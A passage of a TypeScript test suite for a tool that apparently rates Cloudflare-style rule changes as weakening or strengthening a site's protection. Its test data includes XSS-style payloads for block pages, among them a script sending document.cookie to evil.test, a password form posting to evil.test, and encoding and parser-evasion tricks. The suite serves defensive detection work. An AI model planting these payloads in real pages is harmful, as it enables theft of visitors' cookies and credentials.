      'idempotency-key',
      'surrogate-key',
      'sec-websocket-key',
      'x-keyword',
    ].map((name): Row => [null, { request_fields: [{ name }] }, 'neutral']),
    [null, { cookie_fields: [{ name: 'a' }] }, ['weakens', 'adds the cookie a in logs']],
    [
      { cookie_fields: [{ name: 'a' }] },
      { request_fields: [{ name: 'user-agent' }] },
      ['strengthens', 'removes the cookie a in logs'],
    ],
  ]);
});

/** Html that does nothing but show itself, as many block pages are. */
const PLAIN_PAGE = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Blocked</title><meta name="viewport" content="width=device-width">
<link rel="icon" href="/icon.png"><style>body { font: 1em sans-serif; background: url(/a.png) }</style></head>
<!-- Ray ::RAY_ID:: -->
<body><h1 class="big">Sorry</h1><p style="color: red">Ask <a href="mailto:help@shop.example">us</a> or
<a href="https://status.example/a?b=1&amp;c">look here</a>.<br/><img src="https://www.shop.example/a.png" alt=""></p></body></html>`;
const MAY_RUN = ['weakens', 'adds a page of the zone with content that browsers may run'] as const;
const page = (content: string, content_type = 'text/html'): JsonObject => ({
  response: { status_code: 403, content_type, content },
});
const ACTING: readonly (readonly [html: string, what: string])[] = [
  ["<script>fetch('https://evil.test/' + document.cookie)</script>", 'a script'],
  ['<ScRiPt src=https://evil.test/a.js></script>', 'a script'],
  ['<form action="https://evil.test/"><input name=password></form>', 'a form'],
  ['<iframe src="/account"></iframe>', 'a frame'],
  ['<object data="/a"></object>', 'a frame'],
  ['<meta http-equiv="refresh" content="0; url=https://evil.test/">', 'a jump to another page'],
  ['<p onclick="a()">', 'an event handler'],
  ['<img src="/a.png" onerror=a()>', 'an event handler'],
  ['<a href=" javascript:a()">x</a>', 'a link that browsers may run'],
  ['<a href="java&#115;cript:a()">x</a>', 'a link that browsers may run'],
  ['<img src="https://evil.test/a.png">', 'resources of evil.test'],
  ['<img src="//evil.test/a.png">', 'resources of evil.test'],
  ['<link rel=stylesheet href=https://cdn.test/a.css>', 'resources of cdn.test'],
  ['<style>@import "https://evil.test/a.css";</style>', 'html that is not understood'],
  ['<p style="background: url(https://evil.test/a)">', 'resources of evil.test'],
  ['<base href="https://evil.test/">', 'another base of its addresses'],
  ['<svg><animate attributeName=href values=javascript:a() /></svg>', 'html that is not understood'],
  ['<math><mtext></mtext></math>', 'html that is not understood'],
  ['<p <script>a()</script>', 'html that is not understood'],
  ['<!--><script>a()</script>-->', 'html that is not understood'],
  ['<p title="a>', 'html that is not understood'],
  ...[
    // Of a repeated attribute the first counts.
    '<meta http-equiv="refresh" http-equiv="content-type" content="0;url=https://evil.test/">',
    '<a href="javascript:a()" href="/ok">x</a>',
    '<a HREF="javascript:a()" href="/ok">x</a>',
    // A no-break space belongs to the value before it.
    '<p x=a\u00a0y="><img src=x onerror=a()>">',
    '<p>a</p\u00a0>',
    // Other encodings, in which a page reads as another one.
    '<meta charset="iso-2022-jp"><p>a</p>',
    '<meta http-equiv="content-type" content="text/html; charset=utf-7">',
    '<meta http-equiv="content-type" content="text/html; char&#115;et=utf-7">',
    '<p>\u001b$B</p>',
    '<p>\0</p>',
    // Text up to its own end, in which no html stands.
    '<title><p x="</title><script>a()</script>">',
    '<style><p x="</style><script>a()</script>"></style>',
    '<svg><style>@im<!-- -->port "//evil.test/a.css"</style></svg>',
    '<style>a {}',
    // Comments of a style that end in what looks like an address.
    '<style>/*url("*/x{background:url(//evil.test/);}/*")*/</style>',
    '<svg><rect fill="u\\72l(//evil.test/a)"/></svg>',
    '<link rel="preload" as="image" imagesrcset="https://evil.test/a.png 1x">',
  ].map((html) => [html, 'html that is not understood'] as const),
  ...['cursor', 'fill', 'filter', 'mask', 'clip-path', 'stroke', 'marker-end', 'data-a'].map(
    (key) => [`<svg><path ${key}="url(https://evil.test/a#b)"/></svg>`, 'resources of evil.test'] as const,
  ),
  ...[
    '<a href="https://evil.test/" style="color: red">x</a>',
    '<a href="https://evil.test/"><h1>x</h1></a>',
    '<a href="https://evil.test/">x',
    '<a href="https://evil.test/"><svg width="9999"></svg></a>',
    '<a href="https://evil.test/" class=x>x</a><style>.x { position: fixed; inset: 0 }</style>',
    '<style>.x{-webkit-transform: scale(99)}</style><a href="//evil.test">x</a>',
    '<p style="position:absolute"><a href="https://evil.test">x</a></p>',
  ].map((html) => [html, 'a link to evil.test that may cover it'] as const),
];

/** More than a reading that looks at it again and again would ever finish. */
const MANY = 200_000;
const VAST: readonly (readonly [what: string, html: string])[] = [
  ['addresses without an end', `<style>${'url('.repeat(MANY)}</style>`],
  ['white space in an address', `<style>url(${' '.repeat(MANY)}</style>`],
  ['addresses of another host', `<style>${'url(//evil.test/)'.repeat(MANY)}</style>`],
  ['links', '<a href="//evil.test"><b>'.repeat(MANY)],
  ['comments', '<!--'.repeat(MANY)],
  ['attributes', `<p ${'a '.repeat(MANY)}>`],
];

describe('pages that visitors get', () => {
  judges('http_request_firewall_custom', 'block', [
    ...ACTING.map(([html, what]): Row => [
      page('No'),
      page(html),
      ['weakens', `adds a page of the zone with ${what}`],
    ]),
    [page('No'), page(PLAIN_PAGE), 'neutral'],
    [page('No'), page(PLAIN_PAGE, 'text/html; charset="UTF-8"'), 'neutral'],
    ...[
      '<a href="/" style="position: fixed">home</a>',
      '<a href="https://www.shop.example/" style="color: red"><h1>home</h1></a>',
      '<style>h1 { text-transform: uppercase; background-position: 0 0 }</style><a href="https://a.test/">a <b>b</b></a>',
      '<meta http-equiv="content-type" content="text/html; charset=utf-8"><p>J\u00fcrgen\u00a0M.</p>',
      '<svg><g fill="none" stroke="url(#a)"></g></svg>',
    ].map((html): Row => [page('No'), page(html), 'neutral']),
    ...['text/html; charset=iso-2022-jp', 'text/plain , text/html', 'text/html;charset=utf-8;charset=x'].map(
      (type): Row => [
        page('No'),
        page('<p>a</p>', type),
        type.includes(',')
          ? 'neutral'
          : ['weakens', 'adds a page of the zone with html that is not understood'],
      ],
    ),
    [
      page('No'),
      page('<script>a()</script>', 'text/plain , text/html'),
      ['weakens', 'adds a page of the zone with a script'],
    ],
    [page('No'), page('<?xml version="1.0" encoding="UTF-8"?>\n<error/>', 'text/xml'), 'neutral'],
    [page('No'), page('<?xml version="1.0" encoding="utf-7"?><error/>', 'text/xml'), MAY_RUN],
    [page('No'), page('<error>\u001b</error>', 'text/xml'), MAY_RUN],
    [page('No'), page('<error/>', 'text/xml; charset=iso-2022-jp'), MAY_RUN],
    [page('No'), page('<script>a()</script>', 'text/plain'), 'neutral'],
    [page('No'), page('{"a":"<script>"}', 'application/problem+json; charset=utf-8'), 'neutral'],
    [page('No'), page('<error><code>1</code></error>', 'text/xml'), 'neutral'],
    [page('No'), page('<html xmlns="http://www.w3.org/1999/xhtml"/>', 'text/xml'), MAY_RUN],
    [
      page('No'),
      page('<script>a()</script>', 'unknown/unknown'),
      ['weakens', 'adds a page of the zone with a script'],
    ],
    [page('<script>a()</script>'), page('No'), ['strengthens', 'removes a page of the zone with a script']],
    [
      page('<script>a()</script>'),
      page('<script>b()</script><form></form>'),
      ['weakens', 'shows another page with a script, a form'],
    ],
  ]);
  judges('http_custom_errors', 'serve_error', [
    [null, { content: '<script>a()</script>' }, ['weakens', 'adds a page of the zone with a script']],
    [null, { content: '<script>a()</script>', content_type: 'text/plain' }, 'neutral'],
    [null, { content: PLAIN_PAGE, content_type: 'text/html' }, 'neutral'],
    [{ asset_name: 'a' }, { asset_name: 'b' }, ['weakens', 'shows another error page']],
  ]);
});

it.each(VAST)('a page of very many %s is read once', (_, html) => {
  const rule = content({ action: 'block', action_parameters: page(html) });
  expect(judged('http_request_firewall_custom', content({ action: 'block' }), rule)).toEqual([
    'weakens',
    expect.stringContaining('adds a page of the zone with'),
  ]);
});

describe('routes', () => {
  judges('http_request_origin', 'route', [
    [null, { origin: { host: 'b.example' } }, ['weakens', 'adds a route to another host, b.example']],
    [
      null,
      { sni: { value: 'till.shop.example' } },
      ['weakens', 'adds a route to till.shop.example, a name of this zone'],
    ],
    [
      { host_header: 'a.example' },
      { host_header: 'b.example' },
      ['weakens', 'sends requests to the origin under the name b.example'],
    ],
    [
      { origin: { port: 1 } },
      { origin: { port: 2 } },
      ['weakens', 'sends requests to another port of the origin'],
    ],
  ]);
});

describe('what is done to every request', () => {
  const origin = (host: string) => ({ origin: { host } });
  const path = (value: string) => ({ uri: { path: { value } } });
  const kept = (more: JsonObject): JsonObject => ({ cache: true, edge_ttl: { ...override(3600), ...more } });
  const PRIVATE = 'for 1 hour, even where the origin marks it private';
  const rows: readonly [
    phase: string,
    action: string,
    parameters: JsonObject,
    expression: string,
    reason: string | undefined,
  ][] = [
    ['http_request_origin', 'route', origin('evil.test'), 'true', 'sends every request to evil.test'],
    [
      'http_request_origin',
      'route',
      origin('evil.test'),
      'http.host eq "www.shop.example"',
      'sends every request to www.shop.example to evil.test',
    ],
    ['http_request_origin', 'route', origin('b.shop.example'), 'true', undefined],
    ['http_request_transform', 'rewrite', path('/'), 'true', 'replaces every page: every request gets /'],
    [
      'http_request_transform',
      'rewrite',
      { uri: { path: { expression: 'concat("/", "a")' } } },
      'true',
      'replaces every page: every request gets /a',
    ],
    [
      'http_request_transform',
      'rewrite',
      { uri: { path: { expression: 'concat("/v1", http.request.uri.path)' } } },
      'true',
      undefined,
    ],
    [
      'http_request_cache_settings',
      'set_cache_settings',
      kept({}),
      'true',
      `caches the answer to every request ${PRIVATE}`,
    ],
    [
      'http_request_cache_settings',
      'set_cache_settings',
      kept({ mode: 'respect_origin', status_code_ttl: [{ status_code: 200, value: 3600 }] }),
      'true',
      `caches the answer to every request ${PRIVATE}`,
    ],
    [
      'http_request_cache_settings',
      'set_cache_settings',
      kept({ mode: 'respect_origin' }),
      'true',
      undefined,
    ],
    ['http_request_cache_settings', 'set_cache_settings', { ...kept({}), cache: false }, 'true', undefined],
  ];
  it.each(rows)('%s: %s %j if %s: %s', (phase, action, parameters, expression, reason) => {
    const rule = (condition: string) =>
      content({ action, expression: condition, action_parameters: parameters });
    const all = rule(expression);
    const said = (before: RuleContent | null, after: RuleContent): string | undefined =>
      judged(phase, before, after)[1]
        .split('; ')
        .find((one) => /\bevery\b/u.test(one));
    expect(said(null, all)).toBe(reason);
    expect(said(rule(SOME), all)).toBe(reason && `now ${reason}`);
    expect(said(all, rule(SOME))).toBeUndefined();
    expect(judged(phase, all, { ...all, description: 'why' })).toBe('neutral');
  });
});

it('says of a rate limit how many requests it allows, of one too', () => {
  const limit = (requests_per_period: number) =>
    content({ ratelimit: { characteristics: ['ip.src', 'cf.colo.id'], period: 60, requests_per_period } });
  expect(judged('http_ratelimit', limit(2), limit(1))).toEqual([
    'strengthens',
    'allows 1 request in 1 minute instead of 2',
  ]);
});

describe('a rate limit that counts by what the client chooses', () => {
  const limit = (...characteristics: readonly string[]) =>
    content({
      expression: SOME,
      ratelimit: { characteristics: ['cf.colo.id', ...characteristics], period: 60, requests_per_period: 50 },
    });
  const counts = (what: string) => `counts by ${what}, which clients can change at will`;

  it.each<readonly [characteristics: readonly string[], what: string | undefined]>([
    [['http.request.cookies["session"]'], 'the cookie session'],
    [['http.request.headers["x-api-key"]', 'http.host'], 'the header x-api-key'],
    [['lower(http.request.headers["x-api-key"][0])'], 'the header x-api-key'],
    [['http.request.uri.args["q"]'], 'the query argument q'],
    [['http.request.body.form["user"]'], 'the form field user'],
    [['http.user_agent', 'http.request.cookies["a"]'], 'the header user-agent and the cookie a'],
    [['lookup_json_string(http.request.body.raw, "user")'], 'the body'],
    [['ip.src', 'http.request.cookies["session"]'], undefined],
    [['cf.unique_visitor_id'], undefined],
    [['lookup_json_string(http.request.jwt.claims["a"][0], "sub")'], undefined],
    [['http.request.uri.path'], undefined],
    [[], undefined],
  ])('%j: %s', (characteristics, what) => {
    const expected = what === undefined ? undefined : counts(what);
    const known = (before: RuleContent | null, after: RuleContent): string | undefined =>
      /counts by the .*? at will/u.exec(String(judged('http_ratelimit', before, after)))?.[0];
    const rule = limit(...characteristics);
    expect(known(null, rule)).toBe(expected);
    expect(known(limit('ip.src'), rule)).toBe(expected);
    expect(known(limit('ip.src', ...characteristics), rule)).toBe(expected);
    expect(known({ ...rule, action: 'log' }, rule)).toBe(expected);
    expect(known(null, { ...rule, action: 'log' })).toBeUndefined();
    expect(known(rule, { ...rule, description: 'why' })).toBeUndefined();
  });
});

describe('keys of logged payloads', () => {
  const key = (public_key?: string): JsonObject => ({
    id: id(7),
    ...(public_key === undefined ? {} : { matched_data: { public_key } }),
  });
  judges('http_request_firewall_managed', 'execute', [
    [key(), key('b'), ['weakens', 'logs what was matched, for whoever holds the key']],
    [key('a'), key('b'), ['weakens', 'logs what was matched for the holder of another key']],
    [key('a'), key(), 'neutral'],
  ]);
});

const DDOS = id(7);
const overrides = (given: JsonObject): JsonObject => ({
  id: DDOS,
  overrides: given,
});
const LESS = 'overrides by which DDoS protection may do less';
const MORE = 'overrides by which DDoS protection does more';

describe.each(['ddos_l7', 'ddos_l4'])('protection that is always on: %s', (phase) => {
  judges(phase, 'execute', [
    [null, overrides({ sensitivity_level: 'eoff' }), ['weakens', `adds ${LESS}`]],
    [overrides({ sensitivity_level: 'low' }), null, ['strengthens', `removes ${LESS}`]],
    [null, overrides({ action: 'log' }), ['weakens', `adds ${LESS}`]],
    [null, overrides({ rules: [{ id: id(8), sensitivity_level: 'eoff' }] }), ['weakens', `adds ${LESS}`]],
    [null, overrides({ categories: [{ category: 'a', enabled: false }] }), ['weakens', `adds ${LESS}`]],
    [null, overrides({ action: 'managed_challenge' }), ['weakens', `adds ${LESS}`]],
    [overrides({ action: 'managed_challenge' }), null, ['weakens', `removes ${LESS}`]],
    [null, overrides({ action: 'block' }), ['strengthens', `adds ${MORE}`]],
    [overrides({ action: 'block' }), null, ['weakens', `removes ${MORE}`]],
    [null, { id: DDOS }, 'neutral'],
    [
      overrides({ sensitivity_level: 'low' }),
      overrides({ sensitivity_level: 'medium' }),
      ['strengthens', 'changes the sensitivity of the whole ruleset from low to medium'],
    ],
    [
      overrides({ sensitivity_level: 'low' }),
      { id: DDOS },
      ['strengthens', 'changes the sensitivity of the whole ruleset from low to default'],
    ],
  ]);

  it('judges an override that lowers protection by the requests that it applies to', () => {
    const low = (expression: string) =>
      content({
        action: 'execute',
        expression,
        action_parameters: overrides({ sensitivity_level: 'low' }),
      });
    expect(judged(phase, low('ssl'), low('true'))).toEqual(['weakens', 'applies to more requests']);
    expect(judged(phase, low('true'), low('ssl'))).toEqual(['strengthens', 'applies to fewer requests']);
  });
});

const FUTURE = 'adds sample_rate, whose effect on protection is not known';

describe('a parameter that this version does not know', () => {
  it.each([
    'block',
    'challenge',
    'compress_response',
    'execute',
    'js_challenge',
    'log',
    'log_custom_field',
    'managed_challenge',
    'redirect',
    'rewrite',
    'route',
    'serve_error',
    'set_cache_control',
    'set_cache_settings',
    'set_cache_tags',
    'set_config',
    'skip',
  ])('weakens when it is added, also with a new rule, or changed: %s', (action) => {
    const phase = 'http_request_firewall_custom';
    const plain = content({ action });
    const rated = (sample_rate: number) => content({ action, action_parameters: { sample_rate } });
    expect(judged(phase, plain, rated(1))).toEqual(['weakens', expect.stringContaining(FUTURE)]);
    expect(judged(phase, null, rated(1))).toEqual(['weakens', expect.stringContaining(FUTURE)]);
    expect(judged(phase, rated(1), rated(2))).toEqual([
      'weakens',
      expect.stringContaining('changes sample_rate'),
    ]);
  });
});

/** The reference does not say enough about these to tell what they do to protection. */
const UNTOLD: ReadonlySet<string> = new Set([
  'score increment',
  'set_cache_settings additional_cacheable_ports',
  'set_cache_settings shared_dictionary',
  'set_cache_settings vary',
  'transform_response_html link_maze',
]);

it('every action parameter in the schemas has a known effect on protection, but for a few', () => {
  const untold = [...KNOWN_ACTION_PARAMETERS].flatMap(([action, keys]) =>
    [...keys].flatMap((key) => {
      const rule = content({ action, action_parameters: { [key]: {} } });
      const verdict = judged('http_request_firewall_custom', null, rule);
      return verdict !== 'neutral' && verdict[1].includes('not known') ? [`${action} ${key}`] : [];
    }),
  );
  expect(new Set(untold)).toEqual(UNTOLD);
});

describe('a widened condition', () => {
  const rule = (action: string, expression: string, action_parameters: JsonObject) =>
    content({ action, expression, action_parameters });

  it.each([
    ['http_request_dynamic_redirect', 'redirect', target('https://evil.test/'), 'redirects more requests'],
    ['http_request_late_transform', 'rewrite', header('X-Origin-Auth', 'a'), 'rewrites more requests'],
    [
      'http_request_cache_settings',
      'set_cache_settings',
      { cache: true },
      'lets the cache answer more requests',
    ],
  ])('is judged by what the rule does: %s', (phase, action, parameters, reason) => {
    expect(judged(phase, rule(action, 'ssl', parameters), rule(action, 'true', parameters))).toEqual([
      'weakens',
      reason,
    ]);
  });

  it('is neutral if the rule lets nothing past', () => {
    const parameters = target('https://www.shop.example/');
    const [few, all] = ['ssl', 'true'].map((expression) => rule('redirect', expression, parameters));
    expect(judged('http_request_dynamic_redirect', few ?? null, all ?? null)).toBe('neutral');
  });

  const extensions = (...names: readonly string[]): string =>
    `http.request.uri.path.extension in {${names.map((name) => `"${name}"`).join(' ')}}`;
  const images = extensions('png', 'gif');
  it.each([
    [images, extensions('png', 'gif', 'avif'), 'neutral'],
    [
      images,
      'starts_with(http.request.uri.path, "/static/") and ends_with(http.request.uri.path, ".css")',
      'neutral',
    ],
    [images, extensions('png', 'gif', 'html'), ['weakens', `${SHARED}; lets the cache answer more requests`]],
  ] as const)(
    'matters to the cache only beyond files that are cached anyway: %s → %s',
    (few, more, expected) => {
      const parameters = { cache: true, edge_ttl: { mode: 'override_origin', default: 60 } };
      const [before, after] = [few, more].map((one) => rule('set_cache_settings', one, parameters));
      const verdict = judged('http_request_cache_settings', before ?? null, after ?? null);
      expect(verdict).toEqual(expected);
    },
  );

  it('lets pages be cached if it no longer covers static files alone', () => {
    const files = 'http.request.uri.path.extension eq "css"';
    const [few, all] = [files, 'true'].map((expression) =>
      rule('set_cache_settings', expression, { cache: true }),
    );
    expect(judged('http_request_cache_settings', few ?? null, all ?? null)).toEqual(['weakens', SHARED]);
  });
});

it('changing the key for logged payloads weakens, since somebody else can read them', () => {
  const keyed = (public_key: string): RuleContent =>
    content({
      action: 'execute',
      action_parameters: { id: id(7), matched_data: { public_key } },
    });
  const phase = 'http_request_firewall_managed';
  expect(judged(phase, keyed('a'), keyed('b'))).toEqual([
    'weakens',
    'logs what was matched for the holder of another key',
  ]);
});
